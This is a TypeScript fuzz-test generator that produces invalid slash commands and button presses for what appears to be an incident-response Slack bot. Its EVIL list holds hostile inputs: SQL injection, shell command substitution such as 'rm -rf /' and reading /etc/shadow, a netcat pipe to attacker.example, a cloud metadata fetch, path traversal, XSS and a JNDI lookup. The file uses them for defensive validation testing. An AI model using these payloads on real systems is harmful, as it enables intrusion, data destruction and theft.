// A deterministic, seeded generator of malformed slash-command texts and button presses, each one invalid by construction.
import { tokenize } from '../../../commands/args.ts';

/** mulberry32: small, fast, and the same sequence for the same seed on every machine. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class Gen {
  #next: () => number;
  constructor(seed: number) {
    this.#next = rng(seed);
  }
  float(): number {
    return this.#next();
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.#next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.#next() < p;
  }
  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.#next() * items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }
  hex(n: number): string {
    let out = '';
    for (let i = 0; i < n; i++) out += '0123456789abcdef'[this.int(0, 15)];
    return out;
  }
}

/** Injection attempts and hostile strings, as people (and scanners) type them. */
export const EVIL = [
  'payments; DROP TABLE incidents;--',
  "payments' OR '1'='1",
  'payments"; DROP TABLE ledger; --',
  '$(rm -rf /)',
  '`reboot`',
  '; cat /etc/shadow',
  '| nc attacker.example 4444',
  '&& curl http://169.254.169.254/latest/meta-data/',
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\system32',
  '/dev/zero',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<@U0BOB>',
  '<!channel>',
  '<!here|here>',
  '<https://evil.example|click me>',
  '*bold* _it_ ~strike~ `code`',
  '%00',
  'payments%00',
  'payments\u0000',
  '\u0000\u0001\u0002\u001b[31m',
  '{"$ne":null}',
  '{"legacy":100,"service":"payments"}',
  '[1,2,3]',
  '{"__proto__":{"admin":true}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '%s%s%s%n',
  'NaN',
  'Infinity',
  '-0',
  '1e3',
  '0x64',
  '１００',
  '٣٠',
  '100%%',
  '99.9',
  '-1',
  '101',
  '0',
  'null',
  'undefined',
  '\u202Epayments',
  'pay\u200bments',
  'payments\u200d',
  '\u2060payments',
  '\ufeffpayments',
  'ｐａｙｍｅｎｔｓ',
  'PAYMENTS',
  'Payments',
  'payments.',
  'payments/',
  'payments*',
  'pay ments',
  'مدفوعات',
  'תשלומים',
  '支付',
  'पेमेंट',
  '💥',
  '🔥🔥🔥',
  '👩‍💻',
  '🏳️‍🌈',
  'z̷̢͍̀a̶̛͎l̵͈̓g̸̝̈o̴̰͝',
  'e\u0301\u0301\u0301',
  '\ud800',
  'a=b=c',
  '=',
  '==100',
  'legacy',
  'line1\nline2',
  'tab\there',
  'cr\rlf',
];

/** Random text from hostile alphabets: controls, bidi and zero-width marks, emoji, combining marks, CJK, lone surrogates. */
export function unicodeNoise(g: Gen, length: number): string {
  const alphabets = [
    () => String.fromCharCode(g.int(0x21, 0x7e)),
    () => String.fromCharCode(g.int(0x00, 0x1f)),
    () => g.pick(['\u202e', '\u202b', '\u200f', '\u061c', '\u2067']),
    () => g.pick(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff']),
    () => g.pick(['💥', '🔥', '👩‍💻', '🏳️‍🌈', '🦄', '🇺🇸']),
    () => String.fromCharCode(g.int(0x300, 0x36f)),
    () => String.fromCharCode(g.int(0x4e00, 0x4eff)),
    () => String.fromCharCode(g.int(0x600, 0x6ff)),
    () => g.pick(['\ud800', '\udfff']),
    () => g.pick(['\u00a0', '\u3000', '\u2028']),
  ];
  let out = '';
  for (let i = 0; i < length; i++) out += g.pick(alphabets)();
  return out;
}

export const SERVICES = ['payments', 'checkout'];

/** True when the text's first token (as the bot tokenizes) is a configured service: such a word is no poison. */
function namesService(text: string): boolean {
  try {
    const first = tokenize(text)[0];
    return first !== undefined && SERVICES.includes(first);
  } catch {
    return false; // an unclosed quote is itself invalid
  }
}

/** A word in the service position that is not a configured service: injection, unicode, lookalikes. */
export function poisonService(g: Gen): string {
  for (;;) {
    const candidate = g.chance(0.7)
      ? g.pick(EVIL)
      : g.chance(0.5)
        ? unicodeNoise(g, g.int(1, 12))
        : g.pick(['ledger', 'payment', 'paymentz', 'checkout-v2', 'inventory', 'legacy', 'cloud']);
    if (candidate.trim() !== '' && !namesService(candidate) && !candidate.includes('=')) return candidate;
  }
}

/** Quotes a value when it has spaces, as a user would (break-glass="two words"). */
function val(v: string): string {
  return /\s/.test(v) && !v.includes('"') ? `"${v}"` : v;
}

/** An option key no command knows: unknown keys are refused with the list of known ones. */
export function unknownOption(g: Gen): string {
  const key = g.pick([
    'since',
    'service',
    'force',
    'pods2',
    'legacy-percent',
    'ttl',
    'steps',
    'bake',
    'user',
    'admin',
    'x',
    `k${g.int(0, 999)}`,
  ]);
  const value = g.chance(0.5) ? g.pick(EVIL) : g.pick(['30m', '2h', '2026-11-26T10:00:00Z', 'yes', '1']);
  return `${key}=${val(value)}`;
}

/** key=value floods: hundreds of pairs, duplicates and unknown keys among them. */
export function flood(g: Gen): string {
  const pairs: string[] = [];
  const n = g.int(20, 300);
  for (let i = 0; i < n; i++)
    pairs.push(
      `${g.pick(['legacy', 'layer', 'pods', 'sev', 'k', 'since'])}${g.chance(0.5) ? '' : i}=${g.int(0, 200)}`,
    );
  return pairs.join(' ');
}

/** A text over the 2,000-character limit. */
export function huge(g: Gen): string {
  const unit = g.pick(['A', 'payments ', '💥', 'legacy=100 ', '\u202e', unicodeNoise(g, 8)]);
  return unit.repeat(Math.ceil(g.int(2001, 20_000) / unit.length));
}

function badPercent(g: Gen): string {
  for (;;) {
    const v = g.chance(0.6)
      ? g.pick(['0', '101', '-1', '1.5', '100.0', '50,5', 'abc', '', '1000', '%', '50%%', '0%', '999'])
      : g.pick(EVIL);
    // Whole numbers 1-100 (with an optional % and spaces around) are valid, so never poison.
    const m = /^\s*(\d{1,3})%?\s*$/.exec(v);
    if (!m || Number(m[1]) < 1 || Number(m[1]) > 100) return v;
  }
}

function badPagerDutyId(g: Gen): string {
  for (;;) {
    const v = g.chance(0.5)
      ? g.pick(EVIL)
      : g.pick(['PT4', 'P'.repeat(21), 'PT-4KHLK', 'https://evil.example/incidents/PT4KHLK', 'PT4 KHLK', '']);
    if (!/^[A-Za-z0-9]{5,20}$/.test(v.trim()) && !/pagerduty\.com\/incidents\/[A-Za-z0-9]+/i.test(v))
      return v;
  }
}

function badCount(g: Gen, max: number): string {
  for (;;) {
    const v = g.chance(0.6)
      ? g.pick(['0', '-1', String(max + 1), '1.5', 'abc', '', '1e1', '0x2', '９'])
      : g.pick(EVIL);
    const m = /^[0-9]{1,3}$/.exec(v);
    if (!m || Number(v) < 1 || Number(v) > max) return v;
  }
}

export interface CommandCase {
  kind: 'command';
  command: string;
  text: string;
  /** Which construction made it, e.g. "contain:legacy". */
  label: string;
  /** Where it must be sent: 'active' needs the channel's incident, 'quiet' a channel without one, 'any' either. */
  channel: 'active' | 'quiet' | 'any';
}

type TextGen = (g: Gen) => Omit<CommandCase, 'kind' | 'command'>;

const any = (label: string, text: string): Omit<CommandCase, 'kind' | 'command'> => ({
  label,
  text,
  channel: 'any',
});

/** Per command, ways to write it wrong. Each result is invalid wherever it is sent (or says where it must go). */
export const COMMAND_GENERATORS: Record<string, TextGen[]> = {
  '/incident': [
    (g) =>
      any('incident:declare-service', `declare ${poisonService(g)} ${g.chance(0.5) ? g.pick(EVIL) : ''}`),
    (g) =>
      any(
        'incident:declare-sev',
        `declare ${g.pick(SERVICES)} sev=${val(g.pick(['0', '6', '-1', 'SEV9', '1.5', 'sev 1', 'critical', ...EVIL]))} title`,
      ),
    (g) => any('incident:declare-option', `declare ${g.pick(SERVICES)} ${unknownOption(g)} ${g.pick(EVIL)}`),
    (g) =>
      any('incident:declare-pagerduty', `declare ${g.pick(SERVICES)} pagerduty=${val(badPagerDutyId(g))}`),
    (g) => any('incident:declare-title', `declare ${g.pick(SERVICES)} ${'x'.repeat(g.int(201, 400))}`),
    // A bare `declare` opens the declare form in Slack; options without a service are still refused.
    () => any('incident:declare-empty', 'declare sev=1'),
    () => ({ label: 'incident:declare-twice', text: 'declare payments second one', channel: 'active' }),
    (g) => any('incident:resolve-option', `resolve ${g.pick(EVIL)} ${unknownOption(g)}`),
    (g) => any('incident:resolve-long', `resolve ${'fixed '.repeat(g.int(90, 300))}`),
    (g) => any('incident:status-option', `status ${unknownOption(g)}`),
    (g) => any('incident:status-words', `status ${g.pick(EVIL)}`),
    (g) => any('incident:options-only', `${unknownOption(g)} sev=1`),
    (g) => any('incident:link-bad-id', `link ${val(badPagerDutyId(g))}`),
    (g) => any('incident:link-two', `link PT4KHLK ${g.pick(['PT5ABCD', ...EVIL])}`),
    () => any('incident:link-empty', 'link'),
    (g) => any('incident:subcommand', `${poisonService(g)} payments`),
  ],
  '/contain': [
    (g) => any('contain:legacy', `${g.chance(0.3) ? 'payments ' : ''}legacy=${val(badPercent(g))}`),
    () => any('contain:legacy=101', 'payments legacy=101'),
    (g) => any('contain:layer', `layer=${val(g.pick(['alb', 'dns', 'all', 'ROUTE53', '', ...EVIL]))}`),
    (g) =>
      any(
        'contain:break-glass',
        `break-glass=${val(g.pick(['x', 'leads unreachable, payments down', ...EVIL]))}`,
      ),
    (g) => any('contain:service', `${poisonService(g)}${g.chance(0.5) ? ' legacy=100' : ''}`),
    (g) => any('contain:two-services', `payments ${g.pick([...SERVICES, ...EVIL])}`),
    (g) => any('contain:option', `${unknownOption(g)}`),
    () => any('contain:twice', 'legacy=90 legacy=100'),
    () => any('contain:upper-key', 'LEGACY=100'),
    () => ({ label: 'contain:other-service', text: 'checkout', channel: 'active' }),
  ],
  '/telemetry': [
    (g) => any('telemetry:pods', `pods=${val(badCount(g, 10))}`),
    () => any('telemetry:pods=-1', 'pods=-1'),
    (g) => any('telemetry:quarantine', `quarantine=${val(badCount(g, 3))}`),
    () => any('telemetry:both', 'pods=2 quarantine=1'),
    (g) => any('telemetry:service', poisonService(g)),
    (g) => any('telemetry:words', `payments ${g.pick(EVIL)} more`),
    (g) => any('telemetry:option', unknownOption(g)),
    (g) => any('telemetry:release-option', `release ${unknownOption(g)}`),
    (g) => any('telemetry:release-service', `release ${poisonService(g)}`),
    () => ({ label: 'telemetry:other-service', text: 'checkout pods=2', channel: 'active' }),
  ],
  '/sandbox': [
    (g) => any('sandbox:subcommand', `${poisonService(g)}`),
    (g) => any('sandbox:service', `${g.pick(['up', 'down', 'status'])} ${poisonService(g)}`),
    (g) => any('sandbox:extra', `${g.pick(['up', 'down', 'status'])} payments ${g.pick(EVIL)}`),
    (g) => any('sandbox:option', `${g.pick(['up', 'down', 'status'])} ${unknownOption(g)}`),
    () => any('sandbox:empty-with-option', 'ttl=1h'),
    () => ({ label: 'sandbox:other-service', text: 'up checkout', channel: 'active' }),
  ],
  '/timeline': [
    (g) => any('timeline:args', g.pick(EVIL).trim() || '""'),
    (g) => any('timeline:option', unknownOption(g)),
    (g) => any('timeline:noise', `x${unicodeNoise(g, g.int(1, 30))}`),
  ],
  '/postmortem': [
    (g) => any('postmortem:args', g.pick(EVIL).trim() || '""'),
    (g) => any('postmortem:option', unknownOption(g)),
    (g) => any('postmortem:noise', `x${unicodeNoise(g, g.int(1, 30))}`),
  ],
  // Runbook commands in the design contract that other branches add; used only once they are registered.
  '/ledger': [
    (g) => any('ledger:since', `audit since=${val(g.pick(EVIL))}`),
    (g) => any('ledger:service', `audit ${poisonService(g)}`),
    (g) => any('ledger:subcommand', `${poisonService(g)} since=30m`),
    (g) => any('ledger:option', `audit ${unknownOption(g).replace(/^since=/, 'window=')}`),
  ],
  '/breaker': [
    (g) => any('breaker:subcommand', `${poisonService(g)}`),
    (g) => any('breaker:service', `${g.pick(['arm', 'disarm', 'status'])} ${poisonService(g)}`),
    (g) => any('breaker:option', `status ${unknownOption(g)}`),
  ],
  '/canary': [
    (g) => any('canary:steps', `start steps=${val(g.pick(['0,200', 'a,b', '50,25', '-5', ...EVIL]))}`),
    (g) => any('canary:bake', `start bake=${val(g.pick(['-1m', 'forever', '0', ...EVIL]))}`),
    (g) => any('canary:subcommand', `${poisonService(g)}`),
  ],
  '/preflight': [
    (g) => any('preflight:service', poisonService(g)),
    (g) => any('preflight:option', unknownOption(g)),
  ],
  '/drill': [
    (g) => any('drill:subcommand', poisonService(g)),
    (g) => any('drill:scenario', `start ${poisonService(g)}`),
    (g) =>
      any('drill:factor', `start factor=${val(g.pick(['0', '-1', '2', 'fast', 'NaN', '1e9', ...EVIL]))}`),
    (g) => any('drill:start-extra', `start seed ${poisonService(g)}`),
    (g) => any('drill:start-option', `start ${unknownOption(g).replace(/^factor=/, 'speed=')}`),
    () => any('drill:inject-none', 'inject'),
    (g) => any('drill:inject-two', `inject oom ${poisonService(g)}`),
    (g) => any('drill:status-extra', `${g.pick(['status', 'stop'])} ${poisonService(g)}`),
    (g) => any('drill:option', `${g.pick(['status', 'stop', 'inject oom'])} ${unknownOption(g)}`),
  ],
};

/** Generic garbage for every command: floods, texts over the limit, unclosed quotes, pure noise with a bad option. */
export const GENERIC_GENERATORS: TextGen[] = [
  (g) => any('any:flood', flood(g)),
  (g) => any('any:huge', huge(g)),
  (g) =>
    any(
      'any:unclosed-quote',
      `${g.pick(['up', 'declare', 'payments', 'release', ''])} ${g.pick(['legacy', 'break-glass', 'title', 'x'])}="${g.pick(EVIL)}`,
    ),
  (g) => any('any:noise', `${unicodeNoise(g, g.int(1, 40))} ${unknownOption(g)}`),
  (g) =>
    any(
      'any:json',
      `${g.pick(['{"text":"/contain"}', '{"command":"/contain","text":"legacy=100"}', '[]', '{'])} ${unknownOption(g)}`,
    ),
];

export interface ButtonCase {
  kind: 'button';
  actionId: string;
  value: string;
  label: string;
  channel: 'active' | 'quiet' | 'any';
  /** Users this press must not come from (an approver would really approve a real pending request). */
  notFrom?: string[];
}

export function buttonCase(
  g: Gen,
  ids: { pending: string; debug: string; approve: string; deny: string },
): ButtonCase {
  const unknownId = () => `act-${g.hex(8)}`;
  const makers: (() => ButtonCase)[] = [
    () => ({
      kind: 'button',
      actionId: ids.approve,
      value: g.pick([...EVIL, '', 'act-', 'act-XYZ12345', huge(g)]),
      label: 'button:approve-junk',
      channel: 'any',
    }),
    () => ({
      kind: 'button',
      actionId: ids.approve,
      value: unknownId(),
      label: 'button:approve-unknown',
      channel: 'any',
    }),
    () => ({
      kind: 'button',
      actionId: ids.deny,
      value: g.pick([...EVIL, unknownId()]),
      label: 'button:deny-junk',
      channel: 'any',
    }),
    // The real pending request: its requester may not approve it, a responder who is no approver neither.
    () => ({
      kind: 'button',
      actionId: ids.approve,
      value: ids.pending,
      label: 'button:approve-pending-wrong-user',
      channel: 'active',
      notFrom: ['U0BOB', 'U0DAVE'],
    }),
    () => ({
      kind: 'button',
      actionId: ids.deny,
      value: ids.pending,
      label: 'button:deny-pending-wrong-user',
      channel: 'active',
      notFrom: ['U0BOB', 'U0DAVE', 'U0ALICE'],
    }),
    () => ({
      kind: 'button',
      actionId: ids.debug,
      value: g.pick([
        'INC-1|Pod_Upper',
        'INC-1|../etc',
        'INC-1|',
        '|pod-a',
        'INC-999|payments-7f9c',
        'INC-1|pod a',
        ...EVIL,
      ]),
      label: 'button:debug-junk',
      channel: 'any',
    }),
    () => ({
      kind: 'button',
      actionId: ids.debug,
      value: 'INC-1|payments-7f9c-abcde',
      label: 'button:debug-other-channel',
      channel: 'quiet',
    }),
    () => ({
      kind: 'button',
      actionId: g.pick([...EVIL, 'approval.approve2', 'approval', 'breaker.trip', `x${g.hex(4)}`]),
      value: unknownId(),
      label: 'button:unknown-action',
      channel: 'any',
    }),
  ];
  return g.pick(makers)();
}

export type SignatureFault =
  | 'forged-secret'
  | 'stale'
  | 'future'
  | 'no-signature'
  | 'no-timestamp'
  | 'no-headers'
  | 'garbled'
  | 'wrong-version'
  | 'other-body'
  | 'tampered-body'
  | 'timestamp-text';

export const SIGNATURE_FAULTS: SignatureFault[] = [
  'forged-secret',
  'stale',
  'future',
  'no-signature',
  'no-timestamp',
  'no-headers',
  'garbled',
  'wrong-version',
  'other-body',
  'tampered-body',
  'timestamp-text',
];
